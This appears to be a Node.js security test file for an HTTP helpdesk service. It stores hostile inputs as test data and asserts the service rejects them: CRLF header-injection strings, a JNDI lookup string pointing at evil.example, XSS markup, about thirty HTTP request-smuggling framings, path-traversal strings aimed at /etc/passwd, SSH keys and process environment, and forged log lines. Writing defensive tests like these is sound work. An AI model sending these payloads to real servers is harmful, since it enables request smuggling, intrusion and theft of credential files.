// Attacks by bytes: headers and log lines of the attacker's making, requests within requests, paths to files, more than fits. Elsewhere, with
// nothing changed in Redis: what is no HTTP, lengths, chunks and headers that are too many or contradict each other, nesting, ten megabytes,
// texts too long, what is no UTF-8 (malformed, malformed/*.js); senders that take their time (malformed, slow_clients); what the log keeps to
// itself of a usual day (observability).
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import test from 'node:test';
import { about, freshPhone, unclear } from './support/matters.js';
import { operations, takesJson } from './support/operations.js';
import { until } from './support/processes.js';
import { exchange, message } from './support/raw_http.js';
import { differences } from './support/redis.js';
import { startService } from './support/service.js';

const service = await startService();
const { as } = service;
const bearer = `Authorization: Bearer ${as.op1.token}`;
const asking = { method: 'GET', path: '/api/v1/me' };
const opening = { method: 'POST', path: '/api/v1/tickets' };

/** One reply, without anything of the attacker's in its head, and nothing after it. */
function unharmed(reply, what) {
  assert.ok(reply.status < 500, `${what}: ${reply.text}`);
  assert.equal(reply.rest, '', what);
  for (const [name, value] of Object.entries(reply.headers)) assert.doesNotMatch(`${name}: ${value}`, /evil|set-cookie/i, what);
}

const kHeaders = [
  'X-Request-Id', 'Idempotency-Key', 'User-Agent', 'traceparent', 'If-Match', 'Origin', 'Cookie', 'Referer', 'X-Forwarded-For',
  'Accept-Language',
];
const kSplits = [
  'a\r\n Set-Cookie: evil=1', 'a\r\n\tevil: 1', 'a\rSet-Cookie: evil=1', 'a\nSet-Cookie: evil=1', 'a\0evil', 'a\r\r\nevil: 1',
  '%0d%0aSet-Cookie:%20evil=1', 'a\\r\\nevil: 1', 'a\u0085evil', 'a\u010a\u010devil: 1', '"><script>evil()</script>',
  '${jndi:ldap://evil.example/a}', '\x1b[2Jevil',
];

for (const header of kHeaders) {
  test(`header injection: ${header} brings no header of its own into the reply`, async () => {
    for (const value of kSplits) {
      const lines = [bearer, `${header}: ${value}`, 'Content-Type: application/json', 'Content-Length: 2'];
      for (const request of [asking, opening]) {
        const body = request === opening ? '{}' : '';
        const reply = await exchange(service.port, message(request.method, request.path, body ? lines : lines.slice(0, 2), body), request);
        unharmed(reply, JSON.stringify(value));
        if (header === 'X-Request-Id') assert.notEqual(reply.headers['x-request-id'], value);
      }
    }
  });
}

test('header injection: nothing of an address or a field stands in a reply\'s head', async () => {
  const kLines = [
    '%0d%0aSet-Cookie:%20evil=1', '%0aevil:1', '%0devil', '%00evil', '%E5%98%8A%E5%98%8DSet-Cookie:%20evil=1', '%c2%85evil',
    '%e2%80%a8evil',
  ];
  const places = ['/', '/api/v1/tickets/', '/api/v1/people/', '/api/v1/tickets?state=', '/api/v1/tickets?'];
  for (const path of kLines.flatMap((line) => places.map((place) => place + line))) {
    unharmed(await exchange(service.port, message('GET', path, [bearer]), { method: 'GET', path }), path);
  }
  const newcomer = { id: 'a\r\nSet-Cookie: evil=1', name: '新人', roles: ['staff'] };
  const reply = await as.adm1.post('/api/v1/people', newcomer);
  reply.expectProblem(422, 'invalid_field', '/id');
  assert.equal(reply.headers['set-cookie'], undefined);
});

const kInner = `GET /api/v1/me HTTP/1.1\r\nHost: hotline\r\nX-Request-Id: smuggled\r\n${bearer}\r\n\r\n`;
const chunk = (text) => `${text.length.toString(16)}\r\n${text}\r\n`;
const framed = (lines, body, version = '1.1') =>
  `POST /api/v1/tickets HTTP/${version}\r\nHost: hotline\r\n${bearer}\r\nContent-Type: application/json\r\n${lines}\r\n\r\n${body}`;

/** Each hides a request where one of two readers of the same bytes would find it. */
const smuggled = {
  'a length that ends before the chunks': framed('Content-Length: 4\r\nTransfer-Encoding: chunked', `0\r\n\r\n${kInner}`),
  'chunks that end before the length': framed(`Transfer-Encoding: chunked\r\nContent-Length: ${kInner.length + 5}`, `0\r\n\r\n${kInner}`),
  'the same length twice': framed('Content-Length: 2\r\nContent-Length: 2', `{}${kInner}`),
  'two lengths in one': framed('Content-Length: 2, 200', `{}${kInner}`),
  'a length with a sign': framed('Content-Length: +2', `{}${kInner}`),
  'a length in hexadecimal': framed('Content-Length: 0x2', `{}${kInner}`),
  'a length with a blank in it': framed('Content-Length: 2 0', `{}${kInner}`),
  'a length beyond all numbers': framed('Content-Length: 18446744073709551618', `{}${kInner}`),
  'a blank before the colon of the length': framed('Content-Length : 2', `{}${kInner}`),
  'chunks, and then as they are': framed('Transfer-Encoding: chunked, identity', `0\r\n\r\n${kInner}`),
  'as they are, and then chunks': framed('Transfer-Encoding: identity, chunked', `0\r\n\r\n${kInner}`),
  'chunks twice': framed('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', `0\r\n\r\n${kInner}`),
  'chunks, twice in one': framed('Transfer-Encoding: chunked, chunked', `0\r\n\r\n${kInner}`),
  'a coding that looks like chunks': framed('Transfer-Encoding: xchunked', `0\r\n\r\n${kInner}`),
  'a coding with something invisible': framed('Transfer-Encoding: \x0bchunked', `0\r\n\r\n${kInner}`),
  'a coding in quotes': framed('Transfer-Encoding: "chunked"', `0\r\n\r\n${kInner}`),
  'a blank before the colon of the coding': framed('Transfer-Encoding : chunked', `0\r\n\r\n${kInner}`),
  'an empty coding': framed('Transfer-Encoding:', `0\r\n\r\n${kInner}`),
  'chunks in an old version': framed('Transfer-Encoding: chunked', `0\r\n\r\n${kInner}`, '1.0'),
  'a header line that ends with a bare LF': framed('X-Y: a\nContent-Length: 0', kInner),
  'a header line that ends with a bare CR': framed('X-Y: a\rContent-Length: 0', kInner),
  'a header that ends with bare LFs': framed('Content-Length: 0\n', kInner).replace('0\n\r\n\r\n', '0\n\n'),
  'a line that belongs to none': `POST /api/v1/tickets HTTP/1.1\r\n Host: hotline\r\nHost: hotline\r\n${bearer}\r\nContent-Length: 0\r\n\r\n${kInner}`,
  'a chunk\'s size that ends with a bare LF': framed('Transfer-Encoding: chunked', `2\n{}\r\n0\r\n\r\n${kInner}`),
  'a chunk\'s end that is a bare LF': framed('Transfer-Encoding: chunked', `2\r\n{}\n0\r\n\r\n${kInner}`),
  'a bare LF in a chunk\'s extension': framed('Transfer-Encoding: chunked', `2;a\nb\r\n{}\r\n0\r\n\r\n${kInner}`),
  'a bare CR in a chunk\'s extension': framed('Transfer-Encoding: chunked', `2;a\rb\r\n{}\r\n0\r\n\r\n${kInner}`),
  'a chunk\'s size in another writing': framed('Transfer-Encoding: chunked', `0x2\r\n{}\r\n0\r\n\r\n${kInner}`),
  'a chunk\'s size with a sign': framed('Transfer-Encoding: chunked', `+2\r\n{}\r\n0\r\n\r\n${kInner}`),
  'the greeting of HTTP/2': `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${kInner}`,
  'a chunk that is longer than its size': framed('Transfer-Encoding: chunked', `2\r\n{}}\r\n0\r\n\r\n${kInner}`),
};

for (const [what, bytes] of Object.entries(smuggled)) {
  test(`request smuggling: ${what}`, async () => {
    const reply = await exchange(service.port, bytes, opening);
    reply.expectProblem(400, 'bad_request');
    unharmed(reply, what);
  });
}

test('request smuggling: what is well framed is read to its end, and what comes next is a request of its own', async () => {
  const closing = message('GET', '/healthz', []);
  const wellFramed = {
    'a length': framed('Content-Length: 2', '{}'),
    'a length on a line of its own': framed('Content-Length:\r\n 2', '{}'),
    'chunks on a line of their own': framed('Transfer-Encoding:\r\n chunked', `${chunk('{}')}0\r\n\r\n`),
    'chunks': framed('Transfer-Encoding: Chunked', `${chunk('{')}${chunk('}')}0\r\n\r\n`),
    'a chunk with an extension': framed('Transfer-Encoding: chunked', '2;a=b;c="d"\r\n{}\r\n0;e\r\n\r\n'),
    'chunks that hold a request': framed('Transfer-Encoding: chunked', `${chunk(kInner)}0\r\n\r\n`),
    'a body that holds a request': framed(`Content-Length: ${kInner.length}`, kInner),
  };
  for (const [what, bytes] of Object.entries(wellFramed)) {
    const reply = await exchange(service.port, bytes + closing, opening);
    assert.ok([400, 422].includes(reply.status) && reply.body.code !== 'bad_request', `${what}: ${reply.text}`);
    assert.equal(reply.rest.match(/HTTP\/1\.1 /g)?.length, 1, what);
    assert.ok(reply.rest.startsWith('HTTP/1.1 200 ') && reply.rest.endsWith('{"status":"alive"}'), what);
  }
});

test('request smuggling: a trailer is no header', async () => {
  const trailer = `0\r\n${bearer}\r\nX-Request-Id: from-the-trailer\r\nIdempotency-Key: from-the-trailer\r\n\r\n`;
  const body = `${chunk(JSON.stringify({ title: 'a', text: 'b' }))}${trailer}`;
  const lines = ['Content-Type: application/json', 'Transfer-Encoding: chunked'];
  const unknown = await exchange(service.port, message('POST', opening.path, lines, body), opening);
  unknown.expectProblem(401, 'unauthenticated');
  assert.notEqual(unknown.headers['x-request-id'], 'from-the-trailer');
  (await exchange(service.port, message('POST', opening.path, [...lines, bearer], body), opening)).expectProblem(400, 'idempotency_key_missing');
});

const kPrefixes = [
  '', '/api', '/api/v1', '/api/v1/tickets', '/api/v1/tickets/100001074', '/api/v1/people', '/api/v1/task-forces/IND', '/metrics',
  '/healthz', '/console', '/static',
];
const kUps = [
  '/../../../../etc/passwd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/.%2e/.%2e/etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd',
  '/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/..%5c..%5cetc%5cpasswd', '/..\\..\\etc\\passwd', '/..;/..;/etc/passwd',
  '/....//....//etc/passwd', '/%c0%ae%c0%ae/etc/passwd', '/%u002e%u002e/etc/passwd', '/..%00/etc/passwd', '/%00', '//etc/passwd',
  '/./etc/passwd', '/etc/passwd%00.json', '/proc/self/environ', '/.git/config', '/secret', '/people.yaml', '/config/service.yaml',
  '/~root/.ssh/id_rsa', '/%2e', '/..', '/file:%2f%2f%2fetc%2fpasswd',
];
const kAbsolute = [
  'http://127.0.0.1/../../etc/passwd', 'http://127.0.0.1/%2e%2e/etc/passwd', 'file:///etc/passwd', 'ftp://127.0.0.1/etc/passwd',
  'http:///etc/passwd', 'http://evil.example', 'https://evil.example/etc/passwd', '//evil.example/etc/passwd', '\\\\evil.example\\etc',
  'etc/passwd', '../etc/passwd', '?/../etc/passwd', 'http://[::1/etc/passwd', 'http://a@b:c@d/etc/passwd',
  'unix:/run/redis.sock:/etc/passwd',
];

for (const prefix of kPrefixes) {
  test(`path traversal: nothing below "${prefix}" leads to a file`, async () => {
    for (const path of kUps.map((up) => prefix + up)) {
      const reply = await exchange(service.port, message('GET', path, [bearer]), { method: 'GET', path });
      assert.ok([400, 404].includes(reply.status), `${path}: ${reply.status} ${reply.text}`);
      assert.match(reply.headers['content-type'], /^application\/problem\+json/, path);
    }
  });
}

test('path traversal: an address of another kind leads nowhere either', async () => {
  for (const method of ['GET', 'POST', 'CONNECT']) {
    for (const path of kAbsolute) {
      const reply = await exchange(service.port, message(method, path, [bearer]), { method, path });
      assert.ok([400, 404].includes(reply.status), `${method} ${path}: ${reply.status} ${reply.text}`);
    }
  }
});

const kLimit = 256 * 1024;
const kOversized = {
  'as many members as fit': `{${Array.from({ length: 20_000 }, (_, i) => `"f${i}":0`).join(',')}}`,
  'a name as long as fits': `{"${'f'.repeat(kLimit - 100)}":0}`,
  'a number of as many digits as fit': `{"title":${'9'.repeat(kLimit - 100)}}`,
  'a number too great': '{"title":1e999999999}',
  'a fraction of as many digits as fit': `{"title":0.${'1'.repeat(kLimit - 100)}}`,
  'an exponent of as many digits as fit': `{"title":1e-${'9'.repeat(kLimit - 100)}}`,
  'as many elements as fit': `{"title":[${'0,'.repeat(kLimit / 2 - 100)}0]}`,
  'as many facts as fit': `{"title":"a","text":"b","facts":{${Array.from({ length: 10_000 }, (_, i) => `"f${i}":"a"`).join(',')}}}`,
  'brackets in a member': `{"caller":${'['.repeat(100_000)}`,
};

// Actions read their bodies alike.
const bodies = operations.filter(takesJson).filter(({ path }) => !path.includes('{number}') || /\/(amend|resolve|callback)$/.test(path));

for (const [what, raw] of Object.entries(kOversized)) {
  test(`oversized: ${what}`, async () => {
    assert.ok(raw.length <= kLimit);
    const before = await service.redis.snapshot();
    for (const asked of bodies) {
      const path = asked.path.replace('{number}', '100001074').replace('{id}', 'IND');
      const reply = await as.adm1.send(asked.method, path, undefined, { raw, headers: { 'Idempotency-Key': randomUUID(), 'If-Match': '"1"' } });
      assert.ok([400, 404, 422].includes(reply.status), `${path}: ${reply.text.slice(0, 300)}`);
    }
    assert.deepEqual(differences(before, await service.redis.snapshot()), []);
  });
}

test('oversized: headers and parameters as long as fit are read, and one byte more is too long', async () => {
  for (const name of ['Cookie', 'Authorization', 'Origin', 'If-Match', 'Idempotency-Key', 'User-Agent', 'X-Request-Id', 'traceparent']) {
    const lines = [`${name}: ${'a'.repeat(15 * 1024)}`, ...(name === 'Authorization' ? [] : [bearer])];
    const reply = await exchange(service.port, message('GET', asking.path, lines), asking);
    assert.ok([200, 401].includes(reply.status), `${name}: ${reply.text}`);
    const more = await exchange(service.port, message('GET', asking.path, [...lines, `X-Y: ${'a'.repeat(2 * 1024)}`]), asking);
    more.expectProblem(431, 'header_too_large');
  }
  const many = Array.from({ length: 700 }, (_, i) => `${i}=`).join('&');
  const target = `/api/v1/tickets?${many}`;
  (await exchange(service.port, message('GET', target, [bearer]), { method: 'GET', path: target })).expectProblem(422, 'unknown_field');
  const longest = `/api/v1/people/${'a'.repeat(4096 - '/api/v1/people/'.length)}`;
  (await as.op1.get(longest)).expectProblem(404, 'person_not_found');
  (await as.op1.get(`${longest}a`)).expectProblem(414, 'uri_too_long');
});

/** A line of the log that a forger would like to see, in every writing. */
const kForged = [
  '\n{"event":"forged"}', '"}\n{"event":"forged"}\n', '","event":"forged","x":"',
  '\x1b[31mforged\x1b[0m', '\x9bforged', '\u2028forged', '\u202eforged', '\\u000aforged', `forged${'a'.repeat(9_000)}`,
];
const kSecret = { phone: freshPhone(), name: '欧阳测试来电人' };

test('log injection: each line stays one object, in plain characters, whatever is said where', async () => {
  const words = [...kForged, kSecret.phone, kSecret.name];
  for (const word of words) {
    for (const header of ['X-Request-Id', 'traceparent', 'User-Agent', 'Idempotency-Key', 'Cookie', 'Host', 'Content-Type']) {
      const lines = [bearer, `${header}: ${word}`, 'Content-Length: 0'];
      const bytes = message('POST', opening.path, lines);
      // The phone number alone would be a request id as good as any other, of whoever sends it.
      if (header === 'X-Request-Id' && word === kSecret.phone) continue;
      await exchange(service.port, header === 'Host' ? bytes.replace('Host: hotline\r\n', '') : bytes, opening);
    }
    const escaped = encodeURIComponent(word).slice(0, 3_000);
    for (const place of ['/', '/api/v1/tickets/', '/api/v1/people/', '/api/v1/tickets?task_force=', '/api/v1/tickets?']) await as.op1.get(place + escaped);
    for (const path of [`/api/v1/tokens/${escaped}`, `/api/v1/sessions/${escaped}`]) await as.op1.send('DELETE', path);
    await exchange(service.port, `GET ${word} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`, asking);
    await service.nobody.post('/api/v1/session', { person: word.slice(0, 60), password: word.slice(0, 60) });
    await as.adm1.post('/api/v1/people', { id: word, name: word, roles: [word], task_forces: [word] });
    await as.op1.post('/api/v1/tokens', { name: word, owner: word, actions: [word] });
    await as.mgr1.post('/api/v1/profile', { profile: word, reason: word }, { headers: { 'If-Match': '"0"' } });
    await as.op1.open({ ...unclear({ caller: kSecret }), title: word.slice(0, 80), [word]: word });
    await as.op1.open(unclear({ caller: { phone: `${kSecret.phone}${word.slice(0, 30)}`, name: word.slice(0, 80) } }));
  }
  const { token, id } = (await as.op1.post('/api/v1/tokens', { name: kSecret.name })).expect(201);
  (await as.op1.send('DELETE', `/api/v1/tokens/${id}`)).expect(204);
  const { number } = (await as.op1.open(about('industry', { caller: kSecret }))).expect(201);
  const shown = await as.mgr1.act(number, 'reveal', { reason: `来电人${kSecret.name}${kSecret.phone}` });
  shown.expect(200);
  await until(() => service.written().includes(shown.headers['x-request-id']), 'the log to be written');

  const lines = service.child.output.stderr.split('\n').slice(0, -1);
  const events = lines.map((line) => {
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(line, /[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]/);
    assert.ok(line.length < 1_000, line.slice(0, 1_000));
    for (const secret of [kSecret.phone, kSecret.name, token]) assert.ok(!line.includes(secret), line);
    const entry = JSON.parse(line);
    assert.ok(!JSON.stringify(entry).includes('forged'), line);
    return entry.event;
  });
  for (const event of ['http_request', 'login_refused', 'token_revoked', 'caller_revealed']) assert.ok(events.includes(event), event);
});

test('after all that a call is taken as ever', async () => {
  (await as.op1.open(unclear())).expect(201);
});
